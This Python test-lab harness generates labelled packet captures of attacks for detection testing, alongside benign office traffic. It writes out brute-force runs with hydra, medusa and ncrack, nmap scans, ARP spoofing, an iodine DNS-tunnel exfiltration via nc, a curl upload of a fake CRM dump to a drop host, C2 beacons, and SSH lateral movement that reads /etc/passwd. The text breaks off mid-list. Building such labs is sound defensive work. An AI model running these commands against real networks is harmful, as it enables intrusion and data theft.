"""The captures: each scenario runs real tools in the lab while the background hosts go about their work."""

from __future__ import annotations

import contextlib
import os
import shlex
import signal
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.lab import topology
from tests.lab.cutoff import CUTOFF_NOTE, cut_long_connections
from tests.lab.labels import event_span, packet_count
from tests.lab.services import (
    DB_USER,
    INTRANET_PASSWORD,
    INTRANET_USER,
    SMB_USER,
    TUNNEL_PASSWORD,
    USERS,
    Services,
    remove_users,
)
from tests.lab.topology import EXTERNAL, EXTERNAL_NAMES, HOSTS, INTERNET, SWITCH, TUNNEL_DOMAIN, Processes, ns

HERE = Path(__file__).resolve().parent
ACTORS = str(HERE / "actors.py")
WORDS = HERE / "wordlists"
ATTACKER = HOSTS["attacker"]
SSH_CLIENT_OPTIONS = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"]


@dataclass
class Event:
    """One labelled thing that happened in a capture."""

    rule: str
    victims: list[dict]
    evidence_filter: str
    tool: str = ""
    command: str = ""
    attacker_ip: str | None = ATTACKER.ip
    attacker_mac: str | None = ATTACKER.mac
    outcome: str = ""
    notes: str = ""
    secondary: bool = False
    start_wall: float = 0.0
    end_wall: float = 0.0
    checks: dict[str, str] = field(default_factory=dict)  # name -> tshark filter: counted in the capture


@dataclass
class Scenario:
    name: str
    kind: str  # attack | benign
    what: str
    steps: Callable[[Lab, Recorder], None]
    snaplen: int = 0
    lead_in: float = 10.0
    tail: float = 6.0
    extra_hosts: list[dict] = field(default_factory=list)


class Recorder:
    """Runs a scenario's commands inside host namespaces and records the events they make."""

    def __init__(self, lab: Lab) -> None:
        self.lab = lab
        self.events: list[Event] = []
        self.extra_processes: list[subprocess.Popen] = []

    def run(self, host: str, command: list[str], event: Event | None = None, timeout: float = 300, **kwargs) -> str:
        namespace = INTERNET if host == "inet" else ns(host)
        started = time.time()
        try:
            result = subprocess.run(
                ["ip", "netns", "exec", namespace, *command],
                capture_output=True,
                text=True,
                timeout=timeout,
                check=False,
                cwd=self.lab.work,
                **kwargs,
            )
            output = result.stdout + result.stderr
        except subprocess.TimeoutExpired as expired:
            output = f"{expired.stdout or ''}{expired.stderr or ''}\n[stopped by the harness after {timeout:.0f} s]"
        self.lab.log(f"$ [{host}] {shlex.join(command)}\n{output}\n")
        if event is not None:
            self._record(event, command, started)
        return output

    def run_for(
        self, host: str, command: list[str], seconds: float, event: Event, quit_input: str | None = None
    ) -> None:
        """A tool that runs until told to stop: let it run, then stop it the way its user would."""
        started = time.time()
        log = (self.lab.work / "tool.log").open("a")
        process = self.lab.processes.start(
            event.tool, command, ns(host), stdin=subprocess.PIPE, stdout=log, stderr=log, text=True
        )
        time.sleep(seconds)
        if quit_input is not None and process.poll() is None:
            process.stdin.write(quit_input)
            process.stdin.flush()
        else:
            os.killpg(process.pid, signal.SIGINT)
        with contextlib.suppress(subprocess.TimeoutExpired):
            process.wait(20)  # arpspoof and ettercap re-ARP the victims with the true MACs before they exit
        self.lab.processes.stop(process)
        self._record(event, command, started)

    def background(self, host: str, command: list[str]) -> None:
        namespace = INTERNET if host == "inet" else ns(host)
        self.extra_processes.append(self.lab.processes.start(f"extra-{host}", command, namespace))

    def _record(self, event: Event, command: list[str], started: float) -> None:
        event.command = event.command or shlex.join(command)
        event.start_wall, event.end_wall = started, time.time()
        self.events.append(event)


class Lab:
    def __init__(self, work: Path) -> None:
        self.work = work
        self.processes = Processes()
        self.services = Services(work, self.processes)
        self.seed = 0

    def log(self, text: str) -> None:
        with (self.work / "tool.log").open("a") as log:
            log.write(text)

    def up(self) -> None:
        print("building the lab network and starting its servers", flush=True)
        topology.build()
        self.services.start_all()
        for host in ("ws1", "ws2", "ws3"):
            self.services.ntp_client(host)
        time.sleep(2)

    def down(self) -> None:
        self.processes.stop_all()
        topology.teardown()
        remove_users()

    def capture(self, scenario: Scenario, out: Path) -> dict:
        pcap = out / f"{scenario.name}.pcap"
        raw = self.work / f"{scenario.name}.pcap"
        raw.unlink(missing_ok=True)
        dumpcap = ["dumpcap", "-q", "-P", "-i", topology.BRIDGE, "-w", str(raw)]
        if scenario.snaplen:
            dumpcap += ["-s", str(scenario.snaplen)]
        capture = self.processes.start("dumpcap", dumpcap, SWITCH)
        while not raw.exists() or raw.stat().st_size == 0:
            time.sleep(0.2)
        self.seed += 1
        background = self._start_background()
        recorder = Recorder(self)
        try:
            time.sleep(scenario.lead_in)
            scenario.steps(self, recorder)
            time.sleep(scenario.tail)
        finally:
            for process in [*recorder.extra_processes, *background]:
                self.processes.stop(process)
            time.sleep(1)
            self.processes.stop(capture)
        cut_long_connections(raw, pcap)
        raw.unlink()
        return self._describe(scenario, pcap, recorder.events)

    def _start_background(self) -> list[subprocess.Popen]:
        """The office at work: people browsing, software polling for updates, the monitoring server."""
        started = []
        long = ["--duration", "3600"]
        sites = ",".join(EXTERNAL_NAMES[k] for k in ("www1", "www2", "cdn"))
        for index, host in enumerate(("ws1", "ws2", "ws3", "ws4")):
            command = ["python3", ACTORS, "browse", "--sites", sites, "--min-gap", "3", "--max-gap", "20"]
            started.append(self._actor(host, [*command, "--seed", str(self.seed * 100 + index), *long]))
        url = f"https://{EXTERNAL_NAMES['updates']}/updates/latest.json"
        for index, host in enumerate(("ws1", "ws2", "ws3", "ws4", "ws5", "ws6", "admin")):
            tool = "wget" if index % 3 == 2 else "curl"
            command = [
                "python3",
                ACTORS,
                "update-check",
                "--url",
                url,
                "--tool",
                tool,
                "--every",
                "60",
                "--jitter",
                "0.2",
            ]
            started.append(self._actor(host, [*command, "--seed", str(self.seed * 100 + 10 + index), *long]))
        servers = ",".join(HOSTS[h].ip for h in ("gw", "dns", "srv1", "db1"))
        monitor = [
            "python3",
            ACTORS,
            "monitor",
            "--ping",
            servers,
            "--http",
            f"http://{HOSTS['srv1'].ip}/health",
            "--every",
            "30",
        ]
        started.append(self._actor("mon", [*monitor, *long]))
        return started

    def _actor(self, host: str, command: list[str]) -> subprocess.Popen:
        return self.processes.start(f"bg-{host}-{command[2]}", command, ns(host))

    def _describe(self, scenario: Scenario, pcap: Path, events: list[Event]) -> dict:
        described = []
        for event in events:
            span = event_span(pcap, event.evidence_filter)
            described.append(
                {
                    "rule": event.rule,
                    "secondary": event.secondary,
                    "attacker_ip": event.attacker_ip,
                    "attacker_mac": event.attacker_mac,
                    "victims": event.victims,
                    "tool": event.tool,
                    "command": event.command,
                    "outcome": event.outcome,
                    "notes": event.notes,
                    "evidence_filter": event.evidence_filter,
                    "tool_started": round(event.start_wall, 3),
                    "tool_ended": round(event.end_wall, 3),
                    **span,
                    "checks": {
                        name: {"filter": check, "packets": event_span(pcap, check)["packets"]}
                        for name, check in event.checks.items()
                    },
                }
            )
        return {
            "file": pcap.name,
            "kind": scenario.kind,
            "what": scenario.what,
            "packets": packet_count(pcap),
            "bytes": pcap.stat().st_size,
            "snaplen": scenario.snaplen,
            "cutoff": CUTOFF_NOTE,
            "events": described,
            "hosts": [*BACKGROUND_HOSTS, *scenario.extra_hosts],
        }


BACKGROUND_HOSTS = (
    [
        {
            "ip": HOSTS[h].ip,
            "name": h,
            "does": "browses the web every 3-20 s (python requests): HTTPS/HTTP page loads and small downloads "
            "from www.newsportal.example, shop.retailer.example, static.cdnhost.example, names resolved via dns",
        }
        for h in ("ws1", "ws2", "ws3", "ws4")
    ]
    + [
        {
            "ip": HOSTS[h].ip,
            "name": h,
            "does": "update check (curl or wget) every 60 s +- 20 %: GET "
            "https://updates.vendorsoft.example/updates/latest.json; all these hosts poll the same server",
        }
        for h in ("ws1", "ws2", "ws3", "ws4", "ws5", "ws6", "admin")
    ]
    + [
        {
            "ip": HOSTS[h].ip,
            "name": h,
            "does": "NTP client (chronyd, poll 64 s) to ntp.timeservice.example 198.51.100.123",
        }
        for h in ("ws1", "ws2", "ws3")
    ]
    + [
        {
            "ip": HOSTS["mon"].ip,
            "name": "mon",
            "does": "monitoring: ICMP echo to 10.77.0.1, .2, .10, .11 and HTTP GET http://10.77.0.10/health every 30 s",
        },
        {"ip": HOSTS["dns"].ip, "name": "dns", "does": "dnsmasq resolver answering the LAN"},
    ]
)


# --- helpers for the scenarios ------------------------------------------------------------------------------
def victim(host: str, port: int | None, service: str) -> dict:
    return {"ip": HOSTS[host].ip, "port": port, "service": service}


def outbound(rule: str, host: str, external: str, port: int, service: str, **details) -> Event:
    """An event whose actor is a LAN host talking to one external address; its packets are that pair's."""
    return Event(
        rule,
        [{"ip": EXTERNAL[external], "port": port, "service": service}],
        f"ip.addr=={HOSTS[host].ip} && ip.addr=={EXTERNAL[external]}",
        attacker_ip=HOSTS[host].ip,
        attacker_mac=HOSTS[host].mac,
        **details,
    )


def tcp_filter(src: str, dst: str, port: int) -> str:
    return f"ip.addr=={src} && ip.addr=={dst} && tcp.port=={port}"


def hydra_outcome(output: str) -> str:
    found = [line.strip() for line in output.splitlines() if "login:" in line and "password:" in line]
    return "found: " + "; ".join(found) if found else "no valid password found"


def brute_force(
    name: str,
    tool: str,
    host: str,
    port: int,
    service: str,
    command: list[str],
    what: str,
    notes: str = "",
    secondary: list[str] = (),
) -> Scenario:
    def steps(lab: Lab, rec: Recorder) -> None:
        event = Event(
            "BRUTE_FORCE",
            [victim(host, port, service)],
            tcp_filter(ATTACKER.ip, HOSTS[host].ip, port),
            tool=tool,
            notes=notes,
        )
        output = rec.run("attacker", command, event)
        event.outcome = hydra_outcome(output) if tool == "hydra" else _last_lines(output)
        for rule in secondary:
            rec.events.append(
                Event(
                    rule,
                    event.victims,
                    event.evidence_filter,
                    tool=tool,
                    command=event.command,
                    secondary=True,
                    notes="every guess is a cleartext login",
                    start_wall=event.start_wall,
                    end_wall=event.end_wall,
                )
            )

    return Scenario(name, "attack", what, steps)


def _last_lines(output: str, count: int = 3) -> str:
    lines = [line for line in output.strip().splitlines() if line.strip()]
    return " | ".join(lines[-count:])[:400]


def scan(
    name: str,
    rule: str,
    command: list[str],
    target: str | None,
    what: str,
    tool: str = "nmap",
    snaplen: int = 0,
    evidence: str | None = None,
    notes: str = "",
    spoofed: bool = False,
) -> Scenario:
    def steps(lab: Lab, rec: Recorder) -> None:
        victims = [victim(target, None, "any")] if target else [{"ip": "10.77.0.0/24", "port": None, "service": "any"}]
        default = f"ip.src=={ATTACKER.ip} && ip.dst=={HOSTS[target].ip}" if target else f"eth.src=={ATTACKER.mac}"
        event = Event(
            rule, victims, evidence or default, tool=tool, notes=notes, attacker_ip=None if spoofed else ATTACKER.ip
        )
        event.outcome = _last_lines(rec.run("attacker", command, event))

    return Scenario(name, "attack", what, steps, snaplen=snaplen)


SSH_USERS, SSH_WORDS = str(WORDS / "users.txt"), str(WORDS / "passwords.txt")
SRV1, DB1 = HOSTS["srv1"].ip, HOSTS["db1"].ip


def ssh_success(lab: Lab, rec: Recorder) -> None:
    command = [
        "hydra",
        "-I",
        "-l",
        "carol",
        "-P",
        str(WORDS / "passwords-with-hit.txt"),
        "-t",
        "4",
        "-f",
        f"ssh://{SRV1}:2222",
    ]
    event = Event(
        "BRUTE_FORCE",
        [victim("srv1", 2222, "ssh")],
        tcp_filter(ATTACKER.ip, SRV1, 2222),
        tool="hydra",
        notes="carol's password is the 17th guess; hydra stops at the first hit (-f), then the attacker logs in with "
        "it",
    )
    event.outcome = hydra_outcome(rec.run("attacker", command, event))
    time.sleep(3)
    login = [
        "sshpass",
        "-p",
        USERS["carol"],
        "ssh",
        *SSH_CLIENT_OPTIONS,
        "-p",
        "2222",
        f"carol@{SRV1}",
        "id; uname -a; cat /etc/passwd; ls -la ~",
    ]
    rec.run("attacker", login)
    event.notes += f"; the login with the found password: {shlex.join(login)}"


def cleartext(
    name: str, host: str, port: int, service: str, command: list[str], what: str, client: str = "ws2", notes: str = ""
) -> Scenario:
    def steps(lab: Lab, rec: Recorder) -> None:
        event = Event(
            "CLEARTEXT_CREDENTIALS",
            [victim(host, port, service)],
            tcp_filter(HOSTS[client].ip, HOSTS[host].ip, port),
            tool=command[0],
            attacker_ip=HOSTS[client].ip,
            attacker_mac=HOSTS[client].mac,
            notes=notes,
        )
        event.outcome = _last_lines(rec.run(client, command, event))

    return Scenario(name, "attack", what, steps)


PROMPT = "-re {[$#] $}"


def expect_script(spawn: str, dialogue: list[tuple[str, str, int]]) -> str:
    """An expect(1) script: spawn a client, then for each step wait for a pattern, pause, type a line."""
    lines = ["", "set timeout 20", f"spawn {spawn}"]
    for pattern, typed, pause in dialogue:
        lines.append(f"expect {pattern}")
        if pause:
            lines.append(f"sleep {pause}")
        lines.append(f'send "{typed}\\r"')
    return "\n".join([*lines, "expect eof", ""])


TELNET_EXPECT = expect_script(
    f"telnet {SRV1}",
    [
        ('"login:"', "bob", 0),
        ('"assword:"', USERS["bob"], 0),
        (PROMPT, "uptime; ls -la", 0),
        (PROMPT, "exit", 0),
    ],
)


def arp_spoof(name: str, tool: str, command: list[str], quit_input: str | None, what: str, notes: str) -> Scenario:
    target, gateway = HOSTS["ws2"], HOSTS["gw"]

    def steps(lab: Lab, rec: Recorder) -> None:
        topology.run("sysctl", "-qw", "net.ipv4.ip_forward=1", namespace=ns("attacker"))
        sites = ",".join(EXTERNAL_NAMES[k] for k in ("www1", "www2", "cdn"))
        rec.background(
            "ws2",
            [
                "python3",
                ACTORS,
                "browse",
                "--sites",
                sites,
                "--min-gap",
                "0.5",
                "--max-gap",
                "2",
                "--duration",
                "600",
                "--seed",
                "5",
            ],
        )
        for address in (target.ip, gateway.ip):  # the attacker has met both, as after a look at the LAN
            rec.run("attacker", ["ping", "-c", "1", "-W", "1", address])
        time.sleep(5)
        spoofed = f"(arp.src.proto_ipv4=={gateway.ip} || arp.src.proto_ipv4=={target.ip})"
        evidence = f"arp && arp.src.hw_mac=={ATTACKER.mac} && {spoofed}"
        event = Event(
            "ARP_SPOOFING",
            [
                {"ip": target.ip, "port": None, "service": "arp", "spoofed_ip": gateway.ip},
                {"ip": gateway.ip, "port": None, "service": "arp", "spoofed_ip": target.ip},
            ],
            evidence,
            tool=tool,
            notes=notes,
        )
        rec.run_for("attacker", command, 45, event, quit_input)
        event.outcome = f"forged ARP for {gateway.ip} and {target.ip}; the attacker forwards what it intercepts"
        event.checks = {
            "victim's off-subnet packets sent to the attacker's MAC (the interception)": (
                f"eth.dst=={ATTACKER.mac} && ip.src=={target.ip} && !(ip.dst==10.77.0.0/24)"
            ),
        }
        time.sleep(5)

    return Scenario(name, "attack", what, steps, lead_in=12)


def iodine_tunnel(lab: Lab, rec: Recorder) -> None:
    client = "ws4"
    payload = lab.work / "quarterly-report.xlsx"
    payload.write_bytes(os.urandom(120_000))
    rec.background("inet", ["sh", "-c", "nc -l 10.99.0.1 5555 > /dev/null"])
    event = Event(
        "DNS_TUNNELING",
        [{"ip": HOSTS["dns"].ip, "port": 53, "service": "dns (resolver relays to 203.0.113.53)"}],
        f'dns && ip.addr=={HOSTS[client].ip} && dns.qry.name contains "{TUNNEL_DOMAIN}"',
        tool="iodine",
        attacker_ip=HOSTS[client].ip,
        attacker_mac=HOSTS[client].mac,
    )
    command = ["iodine", "-f", "-r", "-P", TUNNEL_PASSWORD, HOSTS["dns"].ip, TUNNEL_DOMAIN]
    started = time.time()
    tunnel = lab.processes.start(
        "iodine", command, ns(client), stdout=(lab.work / "tool.log").open("a"), stderr=subprocess.STDOUT
    )
    deadline = time.time() + 90
    while "10.99.0." not in topology.run("ip", "addr", "show", namespace=ns(client), check=False).stdout:
        if time.time() > deadline:
            raise RuntimeError("iodine did not bring its tunnel up")
        time.sleep(1)
    sent = rec.run(client, ["sh", "-c", f"nc -N -w 30 10.99.0.1 5555 < {payload} && echo sent"], timeout=600)
    lab.processes.stop(tunnel)
    event.command = shlex.join(command) + f"; then through the tunnel: nc -N 10.99.0.1 5555 < {payload.name}"
    event.outcome = f"{payload.stat().st_size} bytes carried through the tunnel ({sent.strip()[:60]})"
    event.notes = (
        "queries go to the LAN resolver dnsmasq, which forwards the tunnel domain to iodined on 203.0.113.53; "
        "the mirror sees both legs"
    )
    event.start_wall, event.end_wall = started, time.time()
    rec.events.append(event)


def beacon(name: str, sleep: float, jitter: float, minutes: float, scheme: str, host: str = "ws3") -> Scenario:
    url = f"{scheme}://{EXTERNAL_NAMES['c2']}"
    port = 443 if scheme == "https" else 80

    def steps(lab: Lab, rec: Recorder) -> None:
        command = [
            "python3",
            ACTORS,
            "beacon",
            "--url",
            url,
            "--sleep",
            str(sleep),
            "--jitter",
            str(jitter),
            "--duration",
            str(minutes * 60),
            "--seed",
            "3",
        ]
        event = outbound(
            "C2_BEACON",
            host,
            "c2",
            port,
            scheme,
            tool="tests/lab/actors.py beacon (stand-in implant, python requests)",
            notes=f"stand-in for an HTTP implant: check-in every {sleep} s shortened by up to {jitter:.0%} (Cobalt "
            f"Strike jitter), a new TCP connection per check-in, an 8-48 KB task result (hex text) POSTed "
            f"after ~15 % of check-ins; the name is resolved through dns each time",
        )
        rec.run(host, command, event, timeout=minutes * 60 + 60)

    return Scenario(
        name,
        "attack",
        f"{host} beacons to {EXTERNAL['c2']} over {scheme.upper()} every {sleep} s, jitter {jitter:.0%}, for "
        f"{minutes} min (stand-in implant)",
        steps,
    )


def ws_beacon(lab: Lab, rec: Recorder) -> None:
    host = "ws6"
    command = [
        "python3",
        ACTORS,
        "ws-beacon",
        "--url",
        f"wss://{EXTERNAL_NAMES['c2ws']}/",
        "--sleep",
        "5",
        "--jitter",
        "0.1",
        "--duration",
        "180",
        "--seed",
        "4",
    ]
    event = outbound(
        "C2_BEACON",
        host,
        "c2ws",
        443,
        "websocket over TLS",
        tool="tests/lab/actors.py ws-beacon (stand-in implant, python websockets)",
        notes="one long-lived TLS WebSocket connection for 3 min; inside it a check-in every 5 s shortened by up to "
        "10 %, occasional 8-48 KB results: periodic bursts within a single flow",
    )
    rec.run(host, command, event, timeout=300)


def exfiltration(lab: Lab, rec: Recorder) -> None:
    host, size_mb = "ws4", 100
    payload = lab.work / "crm-dump.tar.gz"
    _random_file(payload, size_mb)
    url = f"https://{EXTERNAL_NAMES['drop']}/upload/crm-dump.tar.gz"
    command = ["curl", "-sk", "-H", "Expect:", "-T", str(payload), url]
    event = outbound(
        "DATA_EXFILTRATION",
        host,
        "drop",
        443,
        "https (nginx WebDAV PUT)",
        tool="curl",
        outcome=f"{size_mb} MiB of random data uploaded",
        notes="one HTTPS PUT of 100 MiB of random data to a host the site never talked to",
    )
    rec.run(host, command, event)
    payload.unlink()
    for stored in (lab.work / "recv").rglob("*.tar.gz"):
        stored.unlink()


def _random_file(path: Path, size_mb: int) -> None:
    with path.open("wb") as handle:
        for _ in range(size_mb):
            handle.write(os.urandom(1 << 20))


def lateral_movement(lab: Lab, rec: Recorder) -> None:
    host = "ws3"
    targets = ["srv1", "db1", "ws1", "ws2", "ws4", "ws5", "ws6", "admin", "mon"]
    password = USERS["bob"]
    for target in targets:
        rec.run(
            host,
            [
                "sshpass",
                "-p",
                password,
                "ssh",
                *SSH_CLIENT_OPTIONS,
                "-o",
                "ConnectTimeout=5",
                f"bob@{HOSTS[target].ip}",
                "hostname; id; ls ~; cat /etc/os-release | head -2",
            ],
        )
        time.sleep(1.5)
    rec.run(host, ["smbclient", "-L", f"//{SRV1}", "-U", f"{SMB_USER}%{password}"])
    rec.run(
        host,
        ["smbclient", f"//{SRV1}/finance", "-U", f"{SMB_USER}%{password}", "-c", "ls; get budget-2026.xlsx /dev/null"],
    )
    started = rec.events[-1].end_wall if rec.events else time.time()
    event = Event(
        "LATERAL_MOVEMENT",
        [victim(t, 22, "ssh") for t in targets] + [victim("srv1", 445, "smb")],
        f"ip.src=={HOSTS[host].ip} && ip.dst==10.77.0.0/24 && (tcp.dstport==22 || tcp.dstport==445) && "
        f"tcp.flags.syn==1 && tcp.flags.ack==0",
        tool="OpenSSH ssh + sshpass, smbclient",
        attacker_ip=HOSTS[host].ip,
        attacker_mac=HOSTS[host].mac,
        command=f"for t in {' '.join(HOSTS[t].ip for t in targets)}; do sshpass -p *** ssh bob@$t 'hostname; id; "
        f"...'; done; smbclient -L //{SRV1} -U bob; smbclient //{SRV1}/finance -c 'ls; get budget-2026.xlsx'",
        outcome="a workstation that never does so logs in over SSH to 9 internal hosts with a stolen password, then "
        "lists and reads an SMB share",
        notes="ws3 does not use SSH or SMB in any other capture",
    )
    event.start_wall, event.end_wall = started, time.time()
    rec.events.append(event)


# --- benign scenarios ---------------------------------------------------------------------------------------
ADMIN_SSH_EXPECT = expect_script(
    f"ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no alice@{SRV1}",
    [
        ('"assword:"', "Corp!Admin-2178", 0),  # a typo: the admin gets the password right at the second try
        ('"assword:"', USERS["alice"], 0),
        (PROMPT, "df -h; uptime", 0),
        (PROMPT, "ls -la /var/log | head -20", 4),
        (PROMPT, "ps aux | head -30", 6),
        (PROMPT, "exit", 5),
    ],
)


def admin_work(lab: Lab, rec: Recorder) -> None:
    rec.run("admin", ["expect", "-c", ADMIN_SSH_EXPECT])
    time.sleep(5)
    key = str(lab.work / "keys" / "alice")
    config = lab.work / "app.conf"
    config.write_bytes(os.urandom(30_000))
    rec.run("admin", ["scp", *SSH_CLIENT_OPTIONS, "-i", key, str(config), f"alice@{DB1}:/tmp/app.conf.new"])
    time.sleep(3)
    rec.run("admin", ["scp", *SSH_CLIENT_OPTIONS, "-i", key, f"alice@{SRV1}:/etc/os-release", "/dev/null"])
    time.sleep(4)
    rec.run(
        "admin",
        [
            "sshpass",
            "-p",
            USERS["alice"],
            "ssh",
            *SSH_CLIENT_OPTIONS,
            "-p",
            "2222",
            f"alice@{SRV1}",
            "sudo -n true 2>/dev/null; tail -n 50 /etc/services",
        ],
    )
    time.sleep(4)
    rec.run("admin", ["ssh", *SSH_CLIENT_OPTIONS, "-i", key, f"alice@{DB1}", "uptime; free -m"])


def ansible_fanout(lab: Lab, rec: Recorder) -> None:
    targets = ["gw", "mon", "srv1", "db1", "ws1", "ws2", "ws3", "ws4", "ws5", "ws6"]
    inventory = lab.work / "inventory.ini"
    inventory.write_text("[office]\n" + "".join(f"{t} ansible_host={HOSTS[t].ip}\n" for t in targets))
    env = {
        **os.environ,
        "ANSIBLE_HOST_KEY_CHECKING": "False",
        "ANSIBLE_PYTHON_INTERPRETER": "/usr/bin/python3",
        "ANSIBLE_SSH_CONTROL_PATH_DIR": str(lab.work / "ansible-cp"),
        "ANSIBLE_LOCAL_TEMP": str(lab.work / "ansible-tmp"),
    }
    base = [
        "ansible",
        "office",
        "-i",
        str(inventory),
        "-u",
        "alice",
        "--private-key",
        str(lab.work / "keys" / "alice"),
        "-f",
        "5",
    ]
    rec.run("admin", [*base, "-m", "setup", "-a", "gather_subset=min"], env=env)
    time.sleep(5)
    rec.run("admin", [*base, "-m", "shell", "-a", "uptime; df -h /"], env=env)
    time.sleep(5)
    rec.run(
        "admin",
        [*base, "-m", "copy", "-a", "content='ntp {EXTERNAL['ntp']}\n' dest=/tmp/ansible-managed.conf"],
        env=env,
    )


def backup_upload(lab: Lab, rec: Recorder) -> None:
    size_mb = 100
    archive = lab.work / "srv1-nightly.tar.gz"
    _random_file(archive, size_mb)
    rec.run(
        "srv1",
        [
            "scp",
            *SSH_CLIENT_OPTIONS,
            "-i",
            str(lab.work / "keys" / "svc_backup"),
            str(archive),
            f"svc_backup@{EXTERNAL['backup']}:/tmp/nxlab-backup.tar.gz",
        ],
    )
    archive.unlink()
    Path("/tmp/nxlab-backup.tar.gz").unlink(missing_ok=True)


def office_day(lab: Lab, rec: Recorder) -> None:
    """Ten minutes of the office: the background, plus downloads and lookups of internal names."""
    until = time.time() + 600
    step = 0
    while time.time() < until:
        host = ("ws5", "ws6", "admin")[step % 3]
        if step % 4 == 0:
            rec.run(
                host,
                [
                    "wget",
                    "-q",
                    "-O",
                    "/dev/null",
                    "--no-check-certificate",
                    f"https://{EXTERNAL_NAMES['cdn']}/downloads/tool-2mb.bin",
                ],
            )
        rec.run(host, ["getent", "hosts", "srv1.corp.lab"])
        rec.run(host, ["curl", "-s", "-o", "/dev/null", f"http://intranet.corp.lab/page{step % 20 + 1}.html"])
        step += 1
        time.sleep(25)


def benign(
    name: str, what: str, steps: Callable[[Lab, Recorder], None], hosts: list[dict], snaplen: int = 0
) -> Scenario:
    return Scenario(name, "benign", what, steps, snaplen=snaplen, extra_hosts=hosts)


def host_doing(host: str, does: str) -> dict:
    return {"ip": HOSTS[host].ip, "name": host, "does": does}


LOCAL_SWEEP = (
    "on its own subnet nmap must ARP for every address first: 254 ARP requests, and IP probes only to the "
    "hosts that answered"
)


# --- the list ---------------------------------------------------------------------------------------------
SCENARIOS: list[Scenario] = [
    brute_force(
        "ssh-bruteforce-hydra-22",
        "hydra",
        "srv1",
        22,
        "ssh",
        ["hydra", "-I", "-L", SSH_USERS, "-P", SSH_WORDS, "-t", "4", "-I", f"ssh://{SRV1}:22"],
        "hydra guesses 4 users x 25 passwords against OpenSSH on 22 (srv1)",
    ),
    brute_force(
        "ssh-bruteforce-hydra-2222",
        "hydra",
        "srv1",
        2222,
        "ssh",
        ["hydra", "-I", "-L", SSH_USERS, "-P", SSH_WORDS, "-t", "4", "-I", f"ssh://{SRV1}:2222"],
        "hydra guesses 4 users x 25 passwords against OpenSSH on the non-standard port 2222 (srv1)",
    ),
    brute_force(
        "ssh-bruteforce-medusa-22",
        "medusa",
        "db1",
        22,
        "ssh",
        ["medusa", "-h", DB1, "-U", SSH_USERS, "-P", SSH_WORDS, "-M", "ssh", "-t", "4"],
        "medusa guesses 4 users x 25 passwords against OpenSSH on 22 (db1)",
    ),
    brute_force(
        "ssh-bruteforce-ncrack-2222",
        "ncrack",
        "srv1",
        2222,
        "ssh",
        ["ncrack", "-U", SSH_USERS, "-P", SSH_WORDS, f"ssh://{SRV1}:2222"],
        "ncrack guesses 4 users x 25 passwords against OpenSSH on 2222 (srv1), several guesses per connection",
    ),
    Scenario(
        "ssh-bruteforce-hydra-success",
        "attack",
        "hydra guesses carol's password on srv1:2222 (hit at the 17th guess), then logs in with it",
        ssh_success,
    ),
    brute_force(
        "ftp-bruteforce-hydra-2121",
        "hydra",
        "srv1",
        2121,
        "ftp",
        ["hydra", "-I", "-l", "bob", "-P", SSH_WORDS, "-t", "4", f"ftp://{SRV1}:2121"],
        "hydra guesses 25 passwords for bob against vsftpd on the non-standard port 2121",
        secondary=["CLEARTEXT_CREDENTIALS"],
    ),
    brute_force(
        "mysql-bruteforce-ncrack-3306",
        "ncrack",
        "db1",
        3306,
        "mysql",
        ["ncrack", "--user", DB_USER, "-P", SSH_WORDS, f"mysql://{DB1}:3306"],
        "ncrack guesses 25 passwords for the MariaDB user app on 3306",
        notes="ncrack, not hydra: hydra 9.4's mysql module sends COM_QUIT before authenticating to MariaDB 10.11 "
        "(error 1156) and guesses nothing",
    ),
    brute_force(
        "mysql-bruteforce-medusa-3307",
        "medusa",
        "db1",
        3307,
        "mysql",
        ["medusa", "-h", DB1, "-n", "3307", "-u", DB_USER, "-P", SSH_WORDS, "-M", "mysql", "-t", "4"],
        "medusa guesses 25 passwords for the MariaDB user app on the second port 3307",
    ),
    brute_force(
        "postgres-bruteforce-hydra",
        "hydra",
        "db1",
        5432,
        "postgresql",
        ["hydra", "-I", "-L", SSH_USERS, "-P", SSH_WORDS, "-t", "4", f"postgres://{DB1}:5432"],
        "hydra guesses 4 users x 25 passwords against PostgreSQL 5432",
    ),
    brute_force(
        "vnc-bruteforce-hydra",
        "hydra",
        "ws5",
        5900,
        "vnc",
        ["hydra", "-I", "-P", SSH_WORDS, "-t", "2", "-W", "1", f"vnc://{HOSTS['ws5'].ip}:5900"],
        "hydra guesses 25 VNC passwords against TigerVNC (Xvnc) on ws5",
    ),
    brute_force(
        "smb-bruteforce-hydra",
        "hydra",
        "srv1",
        445,
        "smb",
        ["hydra", "-I", "-L", SSH_USERS, "-P", SSH_WORDS, "-t", "1", f"smb://{SRV1}"],
        "hydra guesses 4 users x 25 passwords against Samba over SMB1 (NTLM)",
        notes="the lab's Samba allows SMB1 (server min protocol = NT1) because hydra's smb module speaks only SMB1",
    ),
    scan(
        "portscan-nmap-syn",
        "PORT_SCAN",
        ["nmap", "-sS", "-n", "-T4", SRV1],
        "srv1",
        "nmap SYN scan of the top 1000 TCP ports of srv1",
    ),
    scan(
        "portscan-nmap-connect",
        "PORT_SCAN",
        ["nmap", "-sT", "-n", "-T4", DB1],
        "db1",
        "nmap connect() scan of the top 1000 TCP ports of db1",
    ),
    scan(
        "portscan-nmap-udp",
        "PORT_SCAN",
        ["nmap", "-sU", "-n", "--top-ports", "40", SRV1],
        "srv1",
        "nmap UDP scan of the top 40 UDP ports of srv1",
    ),
    scan(
        "portscan-nmap-fin",
        "PORT_SCAN",
        ["nmap", "-sF", "-n", "-T4", "--top-ports", "300", SRV1],
        "srv1",
        "nmap FIN scan, top 300 ports of srv1",
    ),
    scan(
        "portscan-nmap-null",
        "PORT_SCAN",
        ["nmap", "-sN", "-n", "-T4", "--top-ports", "300", DB1],
        "db1",
        "nmap NULL scan, top 300 ports of db1",
    ),
    scan(
        "portscan-nmap-xmas",
        "PORT_SCAN",
        ["nmap", "-sX", "-n", "-T4", "--top-ports", "300", SRV1],
        "srv1",
        "nmap XMAS scan, top 300 ports of srv1",
    ),
    scan(
        "portscan-nmap-slow",
        "PORT_SCAN",
        ["nmap", "-sS", "-n", "-T1", "-p", "21-23,80,443,445,3306,3389,5432", DB1],
        "db1",
        "nmap -T1 (sneaky: 15 s between probes) SYN scan of 9 ports of db1, about 3 minutes",
    ),
    scan(
        "portscan-masscan",
        "PORT_SCAN",
